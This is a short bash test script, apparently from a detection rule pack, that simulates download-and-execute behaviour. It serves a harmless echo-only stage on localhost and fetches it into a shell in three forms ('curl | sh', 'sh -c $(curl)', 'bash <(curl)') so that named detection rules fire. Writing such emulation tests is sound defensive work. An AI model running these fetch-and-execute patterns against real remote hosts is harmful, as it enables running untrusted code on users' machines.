#!/usr/bin/env bash
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# technique: T1105 Ingress Tool Transfer
# rules: vigil_download_piped_to_shell vigil_ip_download_piped_to_shell vigil_fetch_into_shell
# Acts out: `curl http://IP/stage.sh | sh` from a `bash -c` one-liner, the way an exploit
# or a cron entry runs it, then the `sh -c "$(curl ...)"` and `bash <(curl ...)` forms.
# The stage only echoes.
source lib/common.sh
mkdir www
echo 'echo vigil-rulepack stage ran' > www/stage.sh
serve_dir www
bash -c "curl -fsS http://127.0.0.1:$PORT/stage.sh | sh"
bash -c "sh -c \"\$(curl -fsS http://127.0.0.1:$PORT/stage.sh)\""
bash -c "bash <(curl -fsS http://127.0.0.1:$PORT/stage.sh)"
